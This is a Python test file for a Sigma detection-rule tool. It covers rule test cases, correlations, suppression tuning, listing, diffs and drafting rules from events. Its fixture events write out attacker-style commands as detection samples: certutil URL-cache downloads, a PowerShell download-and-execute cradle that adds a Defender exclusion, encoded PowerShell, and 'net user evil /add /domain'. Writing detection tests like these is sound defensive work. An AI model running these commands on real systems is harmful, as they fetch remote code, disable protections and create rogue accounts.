"""`konseki rules`: tests of rules, listings, differences, tuning, proposals."""
import json
import xml.etree.ElementTree

from harness import DATA, case, equal, jsonl, main, need, run, true

RULE = """title: Certutil Download
id: 4a6f2e0c-0c5f-4b7e-9d53-6c1b1f0a9e11
status: test
level: high
logsource: {product: windows, category: process_creation}
detection:
  selection:
    Image|endswith: '\\certutil.exe'
    CommandLine|contains: urlcache
  condition: selection
"""
EVENT = {"Channel": "Security", "EventID": 4688, "NewProcessName": "C:\\x\\certutil.exe",
         "CommandLine": "certutil -URLCACHE -f http://files.example/x"}
CASES = """cases:
  - name: inline
    events: [{Channel: Security, EventID: 4688, NewProcessName: 'C:\\certutil.exe', CommandLine: a urlcache}]
  - {name: from a file, expect: 2, events: two.jsonl}
  - {name: any source, ignore_logsource: true, events: [{Image: 'C:\\certutil.exe', CommandLine: urlcache}]}
  - {name: source counts, expect: no match, events: [{Image: 'C:\\certutil.exe', CommandLine: urlcache}]}
  - {name: lines, expect: no match, file: some.log}
"""


def collection(folder):
    rules = folder / "rules"
    rules.mkdir()
    (rules / "certutil.yml").write_text(RULE)
    (rules / "certutil.test.yml").write_text(CASES)
    (rules / "two.jsonl").write_text((json.dumps(EVENT) + "\n") * 2)
    (rules / "some.log").write_text("2026-11-22T01:02:03Z host prog: urlcache\n")
    return rules


@case
def cases_beside_a_rule(folder):
    rules = collection(folder)
    results = jsonl(run("rules", "test", "--require-tests", rules))
    equal([(r["case"], r["result"], r["hits"]) for r in results],
          [("inline", "passed", 1), ("from a file", "passed", 2), ("any source", "passed", 1),
           ("source counts", "passed", 0), ("lines", "passed", 0)], "results")
    true("5 passed, 0 failed; 0 rules" in run.stderr, run.stderr)
    equal(len(jsonl(run("rules", "check", rules))), 1, "a file of cases is no rule")


@case
def cases_in_a_folder_of_their_own(folder):
    rules = collection(folder)
    (rules / "tests").mkdir()
    for name in ("certutil.test.yml", "two.jsonl", "some.log"):
        (rules / name).rename(rules / "tests" / name)
    equal({r["result"] for r in jsonl(run("rules", "test", rules))}, {"passed"}, "results")


@case
def what_fails_says_why(folder):
    rules = collection(folder)
    (rules / "certutil.test.yml").write_text("""cases:
  - {name: three, expect: 3, events: two.jsonl}
  - {name: '<&"', expect: no match, events: two.jsonl}
  - {name: word, expect: perhaps, events: two.jsonl}
  - {name: both, events: two.jsonl, file: some.log}
  - {name: missing, events: nowhere.jsonl}
  - {name: rule, rule: 00000000-0000-4000-8000-000000000000, events: two.jsonl}
  - {name: key, evnets: two.jsonl, events: two.jsonl}
  - {name: not json, events: certutil.yml}
""")
    (rules / "broken.test.yml").write_text("cases: [\n")
    (rules / "untested.yml").write_text(RULE.replace("4a6f2e0c", "4a6f2e0d"))
    results = jsonl(run("rules", "test", "--require-tests", "--junit", folder / "j.xml", rules,
                        expect=1))
    equal({r["result"] for r in results}, {"failed"}, "results")
    why = {r.get("case"): r.get("why") for r in results}
    equal(why["three"], None, "a case that ran")
    true(why["word"].startswith("line 4: expect"), why["word"])
    true("either events or a file" in why["both"], why["both"])
    true("nowhere.jsonl" in why["missing"], why["missing"])
    true("no rule 00000000" in why["rule"], why["rule"])
    true("'evnets' is not known" in why["key"], why["key"])
    true("no JSON objects" in why["not json"], why["not json"])
    true("not YAML" in why["(unreadable)"], why["(unreadable)"])
    equal(why[None], "no test", "the rule without a test")
    suite = xml.etree.ElementTree.parse(folder / "j.xml").getroot()[0]
    equal((suite.get("tests"), suite.get("failures")), ("10", "10"), "counts of the XML")
    equal(suite[2].get("name"), '<&"', "names are escaped")
    table = run("rules", "test", "--format", "table", rules, expect=1).decode()
    true("three: expected 3 hits, got 2" in table, table)


@case
def a_refused_rule_fails_its_case(folder):
    rules = collection(folder)
    (rules / "certutil.yml").write_text(RULE.replace("|contains", "|cotnains"))
    results = jsonl(run("rules", "test", rules, expect=1))
    true("refused" in results[0]["why"] and "cotnains" in results[0]["why"], results[0]["why"])


CORRELATION = RULE.replace("status: test", "status: test\nname: download") + """---
title: Many Downloads
id: 5a6f2e0c-0c5f-4b7e-9d53-6c1b1f0a9e11
correlation:
  type: event_count
  rules: [download]
  group-by: [Computer]
  timespan: 10m
  condition: {gte: 3}
level: high
"""


@case
def cases_of_correlations_hold_several_events(folder):
    (folder / "many.yml").write_text(CORRELATION)
    event = lambda minute, computer: json.dumps(
        {**EVENT, "Computer": computer, "@timestamp": f"2026-03-01T00:{minute:02}:00Z"})
    events = {"three": [(0, "a"), (4, "a"), (9, "a")], "slow": [(0, "a"), (6, "a"), (12, "a")],
              "apart": [(0, "a"), (1, "b"), (2, "a")],
              "two groups": [(0, "a"), (1, "a"), (2, "a"), (0, "b"), (1, "b"), (2, "b")],
              "base": [(0, "a"), (30, "a")]}
    wanted = {"three": 1, "slow": 0, "apart": 0, "two groups": 2, "base": 2}
    cases = ["cases:"]
    for name, times in events.items():
        (folder / f"{name}.jsonl").write_text("\n".join(event(*t) for t in times) + "\n")
        rule = "4a6f2e0c" if name == "base" else "5a6f2e0c"
        cases.append(f"  - {{name: {name}, rule: {rule}-0c5f-4b7e-9d53-6c1b1f0a9e11, "
                     f"expect: {wanted[name]}, events: {name}.jsonl}}")
        cases.append(f"  - {{name: {name} as evidence, rule: {rule}-0c5f-4b7e-9d53-6c1b1f0a9e11, "
                     f"expect: {wanted[name]}, file: {name}.json}}")
        (folder / f"{name}.json").write_text("\n".join(
            json.dumps({"Provider_Name": "Microsoft-Windows-Security-Auditing", "EventRecordID": i + 1,
                        "TimeCreated_SystemTime": json.loads(event(*t))["@timestamp"],
                        **EVENT, "Computer": t[1]}) for i, t in enumerate(times)) + "\n")
    (folder / "many.test.yml").write_text("\n".join(cases) + "\n")
    results = jsonl(run("rules", "test", folder, expect=(0, 1)))
    equal([(r["case"], r.get("why"), r["hits"]) for r in results],
          [(name + kind, None, wanted[name]) for name in events for kind in ("", " as evidence")],
          "hits")


@case
def nothing_to_test(folder):
    (folder / "a.yml").write_text(RULE)
    run("rules", "test", folder, expect=2)
    run("rules", "test", "--require-tests", folder, expect=1)
    run("rules", "test", folder / "nowhere", expect=4)


@case
def sigmahq_regression_data(folder):
    data = need(DATA / "evtx" / "sigma-regression", "SigmaHQ's regression data")
    rules = [x for name in ("rules", "rules-emerging-threats", "rules-threat-hunting")
             for x in ("--rules", DATA / "sigma" / name)]
    results = jsonl(run("rules", "test", *rules, data))
    equal(sum(r["result"] == "passed" for r in results), 130, "cases that pass")


SITE = """zone = "UTC"
rules {
    level { rule = "4a6f2e0c-0c5f-4b7e-9d53-6c1b1f0a9e11", level = critical, owner = a, reason = b, until = never }
    suppress { title = "Certutil*", match { CommandLine = "*files.example*", Computer = "pc1*" }
               owner = "IT", reason = "patch tool", until = "%s" }
}
"""


def three_events(folder):
    """One that the site file explains, one of another computer, one of another command."""
    lines = []
    for i, (computer, host) in enumerate((("PC1.ad", "files"), ("PC2.ad", "files"),
                                          ("PC1.ad", "evil"))):
        lines.append(json.dumps({
            "EventID": 4688, "Channel": "Security", "Computer": computer, "EventRecordID": i + 1,
            "Provider_Name": "Microsoft-Windows-Security-Auditing",
            "TimeCreated_SystemTime": f"2026-03-01T00:00:0{i}.000000Z",
            "NewProcessName": "C:\\x\\certutil.exe",
            "CommandLine": f"certutil -urlcache http://{host}.example/"}))
    (folder / "events.json").write_text("\n".join(lines) + "\n")
    return folder / "events.json"


def tuned(folder, until="2200-12-31"):
    rules, events = collection(folder), three_events(folder)
    (folder / "site.conf").write_text(SITE % until)
    return ["--rules", rules, "--site", folder / "site.conf"], events


def hits(text):
    return [(hit["rule"]["level"], hit.get("suppressed_by"), hit["event"]["line"])
            for hit in jsonl(text)]


@case
def scan_honours_the_site_file(folder):
    options, events = tuned(folder)
    equal(hits(run("scan", *options, events)), [("critical", None, 2), ("critical", None, 3)], "hits")
    true("1 hits suppressed by the site file" in run.stderr, run.stderr)
    true("line 3: level acted on 2 hits" in run.stderr and
         "line 4: suppress acted on 1 hits" in run.stderr, run.stderr)
    equal(hits(run("scan", *options, "--level", "critical", "--suppressed", events)),
          [("critical", "IT: patch tool", 1)], "suppressed hits")


@case
def what_expired_does_not_act_and_is_said(folder):
    options, events = tuned(folder, "2026-03-31")
    equal(len(hits(run("scan", *options, events))), 3, "hits")
    true("line 4: expired on 2026-03-31" in run.stderr, run.stderr)
    rows = jsonl(run("rules", "tuning", *options, expect=1))
    equal([(r["line"], r["action"], r["state"], r["acts"]) for r in rows],
          [(3, "level", "active", True), (4, "suppress", "expired", False)], "sections")


@case
def a_section_about_no_rule_is_said(folder):
    (folder / "site.conf").write_text(SITE % "2200-12-31")
    (folder / "other.yml").write_text(RULE.replace("4a6f2e0c", "4a6f2e0d")
                                      .replace("Certutil", "Other"))
    run("rules", "tuning", "--site", folder / "site.conf")
    rows = jsonl(run("rules", "tuning", "--site", folder / "site.conf", "--rules",
                     folder / "other.yml", expect=1))
    equal({(r["state"], r["rules"]) for r in rows}, {("names no known rule", 0)}, "states")
    (folder / "bad.conf").write_text("rules {\n  disable { rule = x, reason = b, until = never }\n}")
    run("rules", "tuning", "--site", folder / "bad.conf", expect=2)
    true("line 2" in run.stderr and "owner" in run.stderr, run.stderr)


@case
def correlations_are_suppressed_by_their_groups(folder):
    (folder / "many.yml").write_text(CORRELATION)
    (folder / "site.conf").write_text("""rules {
    suppress { rule = "5a6f2e0c-0c5f-4b7e-9d53-6c1b1f0a9e11", match { Computer = "a*" }
               owner = IT, reason = mirror, until = never }
    disable { rule = nobody, owner = IT, reason = gone, until = never }
}""")
    (folder / "events.json").write_text("\n".join(
        json.dumps({"Provider_Name": "Microsoft-Windows-Security-Auditing", "EventRecordID": i + 1,
                    "TimeCreated_SystemTime": f"2026-03-01T00:0{i}:00Z", **EVENT, "Computer": name})
        for i in range(3) for name in ("a1", "b1")) + "\n")
    scan = ["scan", "--rules", folder / "many.yml", "--site", folder / "site.conf", "--format", "jsonl"]
    text = lambda *more: run(*scan, *more, folder / "events.json").decode()
    counted, suppressed = text(), text("--suppressed")
    true('"b1"' in counted and '"a1"' not in counted, counted)
    true('"a1"' in suppressed and "IT: mirror" in suppressed and '"b1"' not in suppressed, suppressed)
    true("line 4: names no rule that is loaded" in run.stderr, run.stderr)


@case
def stored_hits_follow_the_site_file(folder):
    options, events = tuned(folder)
    store = ["--store", folder / "store"]
    run("import", *store, *options, events)
    true("1 hits suppressed by the site file" in run.stderr, run.stderr)
    found = lambda *more: [h for h in jsonl(run("findings", *store, "--format", "jsonl", *more))
                           if h.get("rule", {}).get("source") == "sigma"]
    equal([h["rule"]["level"] for h in found()], ["critical"] * 2, "hits")
    equal([h["suppressed_by"] for h in found("--suppressed")], ["IT: patch tool"], "suppressed")
    run("detect", *store, *options[:2])
    equal([h["rule"]["level"] for h in found()], ["high"] * 3, "hits without the site file")
    run("detect", *store, *options)
    equal((len(found()), len(found("--suppressed"))), (2, 1), "hits with it again")


def listed(*arguments):
    return [rule["title"] for rule in jsonl(run("rules", "list", *arguments))]


@case
def a_filter_is_no_rule_that_finds(folder):
    (folder / "r.yml").write_text(RULE + """---
title: Filter of the site
logsource: {product: windows, category: process_creation}
filter:
    rules: any
    selection: {NoSuchField: x}
    condition: not selection
""")
    checked = {r["title"]: r for r in jsonl(run("rules", "check", folder / "r.yml"))}
    equal([("runs" in r, r.get("filter", False)) for r in checked.values()],
          [(True, False), (False, True)], "only rules are judged")
    (folder / "e.jsonl").write_text('{"Channel": "Security", "EventID": 1}\n')
    rows = jsonl(run("triage", "coverage", "rules", "--rules", folder / "r.yml", folder / "e.jsonl"))
    equal([row["title"] for row in rows], ["Certutil Download"], "rules that never hit")
    (folder / "r.test.yml").write_text(CASES[:CASES.index("  - {name: from a file")])
    run("rules", "test", "--require-tests", folder)
    true("1 passed, 0 failed; 0 rules without a test" in run.stderr, run.stderr)


@case
def a_filter_of_a_correlation_acts_from_the_cache_too(folder):
    (folder / "r.yml").write_text("""title: Logon
name: logon
logsource: {product: windows, service: security}
detection: {s: {EventID: 4625}, condition: s}
---
title: Two logons
name: two
correlation: {type: event_count, rules: [logon], group-by: [U], timespan: 1m, condition: {gte: 2}}
---
title: Filter of the site
logsource: {product: windows}
filter: {rules: [two], s: {U: adm}, condition: not s}
""")
    event = '{"@timestamp": "2026-01-01T00:00:0%dZ", "Channel": "Security", "EventID": 4625, "U": "%s"}\n'
    (folder / "e.jsonl").write_text("".join(event % (i, "adm" if i < 4 else "x") for i in range(6)))
    for _ in range(2):
        hits = jsonl(run("scan", "--rule-cache", folder / "cache", "--rules", folder / "r.yml",
                         folder / "e.jsonl"))
        equal([(h["rule"]["title"], h["correlation"]["group"]) for h in hits],
              [("Two logons", {"U": "x"})], "hits")
        true("with 2 rules" in run.stderr, "copies are not counted: " + run.stderr)
    equal(len(list((folder / "cache").glob("*.sigma"))), 1, "files in the cache")


@case
def rules_are_listed_and_filtered(folder):
    rules = collection(folder)
    (rules / "other.yml").write_text("""title: Other, of Linux
id: 9a6f2e0c-0c5f-4b7e-9d53-6c1b1f0a9e11
status: stable
level: low
description: something rare
logsource: {product: linux, service: auth}
tags: [attack.persistence, attack.t1098.004, attack.execution]
detection: {keywords: [xyz], condition: keywords}
""")
    (rules / "bad.yml").write_text(RULE.replace("4a6f2e0c", "1a6f2e0c").replace("|endswith", "|end")
                                   .replace("Certutil", "Bad"))
    everything = jsonl(run("rules", "list", rules))
    equal({rule["title"]: rule["runs"] for rule in everything},
          {"Certutil Download": "yes", "Other, of Linux": "yes", "Bad Download": "refused"}, "runs")
    true("end" in [rule["why"] for rule in everything if "why" in rule][0], "why")
    equal(listed("--level", "medium", "--id", "4A6F", rules), ["Certutil Download"], "level, id")
    equal(listed("--tag", "attack.T1098", rules), ["Other, of Linux"], "tag")
    equal(listed("--tag", "attack.t109", rules), [], "part of a tag")
    both = sorted(listed(rules))
    equal(sorted(listed("--tag", "attack.t1098,attack.*", rules)), sorted(listed("--tag", "attack", rules)),
          "lists and wildcards")
    equal(sorted(listed("--exclude-tag", "attack.T1098", rules) + ["Other, of Linux"]), both, "all but a tag")
    equal(listed("--rule", "*linux", rules), ["Other, of Linux"], "by title")
    equal(listed("--text", "RARE", rules), ["Other, of Linux"], "text")
    equal(listed("--product", "linux", "--service", "auth", "--status", "stable", rules),
          ["Other, of Linux"], "log source")
    equal(listed("--product", "lin", rules), [], "part of a word")
    counts = jsonl(run("rules", "list", "--count-by", "tactic", rules))
    equal([(c["tactic"], c["count"]) for c in counts],
          [("(none)", 2), ("execution", 1), ("persistence", 1)], "tactics")
    run("rules", "list", "--navigator", folder / "layer.json", "--level", "low", rules)
    layer = json.loads((folder / "layer.json").read_text())
    equal([(t["techniqueID"], t["score"]) for t in layer["techniques"]], [("T1098.004", 1)], "layer")
    run("rules", "list", "--count-by", "colour", rules, expect=2)
    run("rules", "list", "--level", "huge", rules, expect=2)


@case
def differences_between_collections(folder):
    old, new = folder / "old", folder / "new"
    (old / "a").mkdir(parents=True)
    new.mkdir()
    rule = lambda n, text=RULE: text.replace("4a6f2e0c", f"{n}a6f2e0c")
    for n in range(1, 7):
        (old / "a" / f"{n}.yml").write_text(rule(n))
    (new / "a").mkdir()
    swapped = "# a comment\nlevel: high\n" + rule(1).replace("level: high\n", "")
    (new / "a" / "1.yml").write_text(swapped)
    (new / "a" / "2.yml").write_text(rule(2).replace("urlcache", "other"))
    (new / "a" / "3.yml").write_text(rule(3).replace("high", "low"))
    (new / "4.yml").write_text(rule(4))
    (new / "a" / "5.yml").write_text(rule(5) + "tags: [attack.execution]\n")
    (new / "a" / "7.yml").write_text(rule(7) + "---\n" + rule(8))
    changes = {c["id"][0]: (c["change"], c["keys"])
               for c in jsonl(run("rules", "diff", old, new))}
    equal(changes, {"2": ("detection", ["detection"]), "3": ("metadata", ["level"]),
                    "4": ("moved", []), "5": ("metadata", ["tags"]), "6": ("removed", []),
                    "7": ("added", []), "8": ("added", [])}, "changes")
    table = run("rules", "diff", "--format", "table", old, new).decode()
    true("level (high -> low)" in table and "a/4.yml -> 4.yml" in table, table)
    run("rules", "diff", old, folder / "nowhere", expect=4)


@case
def files_that_hold_no_rule_are_told(folder):
    for name, text in (("empty.yml", b""), ("bytes.yml", b"\xff\x00\x01"), ("bad.yml", b"title: [x")):
        (folder / name).write_bytes(text)
        run("rules", "diff", folder / name, folder / name, expect=0 if not text else 4)
        true((name in run.stderr) == bool(text), run.stderr)
        found = jsonl(run("rules", "lint", folder / name, expect=1))
        true(("refused", "error") in [(f["check"], f["severity"]) for f in found], found)
        equal([r["status"] for r in jsonl(run("rules", "check", folder / name, expect=1))], ["refused"], name)
        run("rules", "new", "--jsonl", folder / name, expect=4)
        true(name in run.stderr, run.stderr)
    (folder / "none").mkdir()
    (folder / "e.jsonl").write_text("{}\n")
    for name, code in (("check", 0), ("lint", 0), ("list", 0)):
        run("rules", name, folder / "none", expect=code)
        true("no rule file" in run.stderr, run.stderr)
    run("rules", "profile", "--rules", folder / "none", folder / "e.jsonl", expect=2)
    run("rules", "profile", "--rules", folder / "bad.yml", folder / "e.jsonl", expect=2)
    true("1 rules refused" in run.stderr, run.stderr)


def proposed(folder, event, *options):
    """Writes a rule for the event, checks and tests it; the rule's text."""
    run("rules", "new", "--out", folder / "new.yml", *options, input=json.dumps(event).encode())
    equal([r["status"] for r in jsonl(run("rules", "check", folder / "new.yml"))], ["ok"], "check")
    equal([r["result"] for r in jsonl(run("rules", "test", folder))], ["passed"], "test")
    return (folder / "new.yml").read_text()


@case
def a_rule_is_drafted_from_an_event(folder):
    rule = proposed(folder, {**EVENT, "NewProcessId": "0x1f4", "SubjectUserName": "bob",
                             "TimeCreated_SystemTime": "2026-03-01T00:00:00Z"}, "--author", "it's me")
    for line in ("    category: 'process_creation'", "        Image|endswith: '\\certutil.exe'",
                 "        CommandLine|contains: '-URLCACHE'", "author: 'it''s me'"):
        true(line + "\n" in rule, f"{line!r} in {rule}")
    for word in ("bob", "0x1f4", "2026-03-01T", "EventID"):
        true(word not in rule, f"{word!r} not in {rule}")
    run("rules", "new", "--out", folder / "new.yml", input=json.dumps(EVENT).encode(), expect=5)
    true("new.yml" in run.stderr, "files that are there stay")


@case
def what_an_event_holds_is_quoted(folder):
    nasty = "a'b \\\\srv\\*x?\\ \"q\" : # {%s} \\\\"
    event = {"Channel": "Security", "EventID": 4697, "ServiceName": nasty, "Extra": "x\ny\x00\x1b[1m",
             "List": ["one", "t*o"], "Nothing": None, "ImagePath": "C:\\x.exe -k\t--run\u202e now"}
    rule = proposed(folder, event, "--title", "'; id: x\n- \x1b[0m")
    true("        ServiceName: 'a''b \\\\\\\\srv\\\\\\*x\\?\\ " in rule, rule)
    true("        EventID: 4697\n" in rule and "    service: 'security'\n" in rule, rule)
    true("\x1b" not in rule and "\u202e" not in rule, "no controls of the terminal")
    other = dict(event, ServiceName=nasty.replace("*", "yy"))
    (folder / "o.jsonl").write_text(json.dumps(other) + "\n" + json.dumps(event) + "\n")
    equal([e["match"] for e in jsonl(run("rules", "eval", folder / "new.yml", folder / "o.jsonl"))],
          [False, True], "a star of the event is no wildcard")


@case
def a_draft_of_windows_powershell_looks_at_its_command(folder):
    state = ("\tNewEngineState=Available\r\n\tSequenceNumber=2184\r\n\tHostName=ConsoleHost\r\n"
             "\tHostApplication=%s\r\n\tEngineVersion=5.1\r\n\tRunspaceId=\r\n\tCommandLine=")
    event = {"Channel": "Windows PowerShell", "EventID": 400, "Data": ["Available", "None", state % (
        "powershell.exe -NoP -EncodedCommand aQBlAHgA")]}
    rule = proposed(folder, event)
    true("            - '-NoP'\n            - '-EncodedCommand'\n" in rule, rule)
    event["Data"] = ["", state % "powershell.exe", 'CommandInvocation(Add-MpPreference): "Add-MpPreference"']
    rule = run("rules", "new", input=json.dumps(event).encode()).decode()
    true("        Data|contains: 'Add-MpPreference'\n" in rule, rule)


@case
def a_draft_takes_the_telling_words_of_long_commands(folder):
    event = {"Channel": "Security", "EventID": 4688, "NewProcessName": "C:\\x\\powershell.exe",
             "CommandLine": "powershell.exe -NoP -sta -NonI -w hidden -Command \"IEX (New-Object Net.WebClient)"
                            ".DownloadString('http://a.example/x.ps1'); Add-MpPreference -ExclusionPath C:\\\""}
    rule = proposed(folder, event)
    true("            - 'New-Object'\n            - 'Net.WebClient'\n            - 'DownloadString'\n"
         "            - 'Add-MpPreference'\n" in rule, rule)
    blob = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAu"
    rule = run("rules", "new", input=json.dumps(dict(event, CommandLine=f"powershell -nop -enc {blob}")).encode())
    true("            - '-nop'\n            - '-enc'\n" in rule.decode() and blob not in rule.decode(), rule)
    rule = run("rules", "new", input=json.dumps(dict(event, CommandLine="net user evil /add /domain")).encode())
    true("            - '/add'\n            - '/domain'\n" in rule.decode(), rule)


@case
def drafts_of_lines_and_of_what_does_not_fit(folder):
    lines = [{"eventSource": "iam.amazonaws.com", "eventName": "CreateUser", "awsRegion": "eu"},
             {"nobody": "knows"}]
    (folder / "cloud.json").write_text("".join(json.dumps(x) + "\n" for x in lines))
    rule = run("rules", "new", "--jsonl", folder / "cloud.json").decode()
    true("service: 'cloudtrail'" in rule and "eventName: 'CreateUser'" in rule, rule)
    rule = run("rules", "new", "--jsonl", folder / "cloud.json", "--fields", "awsRegion").decode()
    true("awsRegion: 'eu'" in rule and "CreateUser" not in rule, rule)
    run("rules", "new", "--jsonl", folder / "cloud.json", "--line", "2", expect=1)
    run("rules", "new", "--jsonl", folder / "cloud.json", "--line", "9", expect=4)
    run("rules", "new", input=b"no json", expect=4)
    run("rules", "new", input=b"", expect=4)


@case
def drafts_of_real_records(folder):
    data = need(DATA / "evtx" / "sigma-regression", "SigmaHQ's regression data")
    files = sorted(data.rglob("*.evtx"))[::5]
    for i, path in enumerate(files):
        run("rules", "new", "--evtx", path, "--out", folder / f"{i}.yml")
    results = jsonl(run("rules", "test", "--require-tests", folder))
    equal([r["result"] for r in results], ["passed"] * len(files), "drafts")


@case
def refusals_from_the_cache_are_in_the_language_asked_for(folder):
    (folder / "bad.yml").write_text(RULE.replace("CommandLine|contains", "CommandLine|gt"))
    (folder / "good.yml").write_text(RULE)
    (folder / "e.jsonl").write_text("{}\n")
    for language, word in (("en", "needs a number"), ("ja", "\u6570\u304c\u5fc5\u8981"), ("en", "needs a number")):
        run("--lang", language, "scan", "--rules", folder, "--rule-cache", folder / "cache", folder / "e.jsonl")
        true(word in run.stderr, run.stderr)


@case
def null_in_json_is_there_for_exists(folder):
    rule = "title: %s\nid: %s\nlogsource: %s\ndetection:\n  s: {%s}\n  condition: s\n"
    for name, source, test in (("there", "{}", "responseElements|exists: true"), ("none", "{}", "responseElements: null"),
                               ("win", "{product: windows, service: security}", "Extra|exists: true")):
        (folder / f"{name}.yml").write_text(rule % (name, name, source, test))
    windows = {"Channel": "Security", "EventID": 1, "Provider_Name": "x", "Computer": "c"}
    events = [{"eventName": "a", "responseElements": None}, {"eventName": "a", "responseElements": "x"},
              {"eventName": "a"}, {"eventName": "a", "responseElements": ["x", None]},
              dict(windows, Extra=None, responseElements=1), dict(windows, responseElements=1),
              {"Event": {"System": windows, "EventData": {"Extra": None, "responseElements": 1}}}]
    (folder / "e.jsonl").write_text("".join(json.dumps(e) + "\n" for e in events))
    found = jsonl(run("scan", "--rules", folder, "--no-rule-cache", "--format", "jsonl", folder / "e.jsonl"))
    equal(sorted((h["event"]["line"], h["rule"]["id"]) for h in found),
          [(1, "none"), (1, "there"), (2, "there"), (3, "none"), (4, "none"), (4, "there"), (5, "there"), (5, "win"),
           (6, "there"), (7, "there"), (7, "win")], "hits")


@case
def profile_counts_what_matching_costs(folder):
    (folder / "r.yml").write_text(
        "title: Shell\nid: shell\nlogsource:\n  product: windows\n  service: security\n"
        "detection:\n  s:\n    Image|endswith: '\\sh.exe'\n    Line|re: 'a.c'\n  condition: s\n")
    event = {"Channel": "Security", "EventID": 1, "Provider_Name": "x", "Computer": "c",
             "TimeCreated_SystemTime": "2026-01-01T00:00:00Z", "Image": "C:\\sh.exe", "Line": "abc"}
    other = dict(event, Image="C:\\other.exe", Line="xyz")
    (folder / "e.jsonl").write_text("".join(json.dumps(x) + "\n" for x in (event, other, event)))
    done = run("rules", "profile", "--rules", folder / "r.yml", "--format", "jsonl",
               folder / "e.jsonl")
    rows = {(r["kind"], r["name"]): r for r in jsonl(done)}
    equal(rows["rule", "Shell"]["hits"], 2, "hits of the rule")
    equal(rows["field", "Image"]["evaluated"], 3, "values of the field")
    equal(rows["field", "Image"]["scanned"], 2, "values that had not come before")
    equal(rows["regex", "a.c"]["hits"], 1, "PCRE2 was asked once: the value came again")
    run("rules", "profile", folder / "e.jsonl", expect=2)


if __name__ == "__main__":
    main()
